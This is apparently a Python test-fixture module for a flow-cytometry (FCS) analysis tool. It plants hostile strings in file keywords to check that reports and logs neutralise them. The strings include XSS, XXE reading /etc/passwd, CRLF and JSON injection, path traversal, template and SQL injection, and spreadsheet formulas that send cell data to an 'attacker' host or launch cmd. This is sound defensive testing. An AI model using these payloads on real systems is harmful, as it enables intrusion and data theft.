"""Texts that were made to do harm where they are shown, written, run or taken for a path."""

import json
from html.parser import HTMLParser

TEXTS = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)' x='",
    "end of everything": "</style></title></textarea></script></svg><svg onload=alert(1)>",
    "comment": "--> ]]> <!-- <![CDATA[ &lt;b&gt; &#60;i> &amp;",
    "xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "json": '"}], "verdict": "pass", "x": [{"\\',
    "line ends": "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
    "log line": 'a\n{"event": "request", "status": 200}\n',
    "formula": '=HYPERLINK("http://attacker/?"&A1,"ok")',
    "formulas": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula behind a semicolon": 'D7;=HYPERLINK("http://attacker/?"&A1);"@SUM(1+9)',
    "wide formula": "\uff1dHYPERLINK(A1)",
    "NUL": "a\0b",
    "direction": "cod\u202egnp.exe\u2066\u200f",
    "long": "W" * 10_000,
    "path": "../../../../etc/passwd",
    "another path": "..\\..\\windows\\win.ini",
    "whole path": "/etc/cron.d/x",
    "terminal": "\x1b[31m\x1b]0;owned\x07\x9b2J",
    "half a pair": "caf\udce9\ud800",
    "template": "{{ 7 * 7 }}{% include 'setup.html' %}${7*7}#{7*7}",
    "format": "{0.__class__} {x!r:>99} %s %(x)s %n %9999d",
    "percent": "%3Cscript%3E%00%0d%0a%252e%252e%252f",
    "sql": "'; DROP TABLE analyses; --",
    "marks on marks": "Z\u0310\u0334\u0321\u033c" * 40,
    "wide": "\U0001f469\u200d\U0001f52c\ufeff\u2028\u2029",
}
MARKER = "Qx7Zhostile"
"""At the beginning of each, so that it is found wherever it comes out."""

KEYWORDS = ("$P3S", "$SRC", "$CYT", "$FIL", "EXPERIMENT NAME", "TUBE NAME", "$OP", "$COM",
            "$SMNO", "PATIENT ID", "$INST", "$PROJ")  # fmt: skip
_DELIMITER = b"\x1e"


def marked(text):
    return f"{text[0]}{MARKER}{text[1:]}" if text[0] in "=@./\uff1d" else f"{MARKER}{text}"


ALL = {name: marked(text) for name, text in TEXTS.items()}


def sent(text):
    """As bytes, halves of pairs and all."""
    return text.encode("utf-8", "surrogatepass")


def poisoned(path, text, keywords=KEYWORDS):
    """An FCS file with a text in its keywords."""
    whole = path.read_bytes()
    begin, end, data, _ = (int(whole[at : at + 8]) for at in (10, 18, 26, 34))
    parts = whole[begin : end + 1].split(whole[begin : begin + 1])[1:-1]
    said = dict(zip(parts[::2], parts[1::2], strict=True))
    said |= {key.encode(): sent(text).replace(_DELIMITER, b"") for key in keywords}
    events, start = whole[data:], 65_536 * 4
    places = {b"$BEGINDATA": start, b"$ENDDATA": start + len(events) - 1}
    said |= {key: b"%014d" % place for key, place in places.items()}
    parts = [part for pair in said.items() for part in pair]
    segment = _DELIMITER + _DELIMITER.join(parts) + _DELIMITER
    assert begin + len(segment) < start
    offsets = (begin, begin + len(segment) - 1, start, start + len(events) - 1, 0, 0)
    head = whole[:10] + b"".join(b"%8d" % each for each in offsets)
    return (head + segment).ljust(start, b" ") + events


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, tuple(name for name, _ in attrs)))
        for name, value in attrs:
            assert not name.startswith("on"), (tag, attrs)
            assert not (value or "").strip().lower().startswith("javascript:"), (tag, attrs)


def elements(page):
    """Every element of a page with the names of its attributes, in their order."""
    parser = _Elements()
    parser.feed(page)
    parser.close()
    return parser.found


def lines(text):
    """What was logged: every line an object."""
    return [json.loads(line) for line in text.splitlines()]


def traces(text):
    """Words of a hostile text that should not be seen where it may not come out."""
    return [MARKER, "alert(1)", "attacker", "etc/passwd", "DROP TABLE"] if text else []
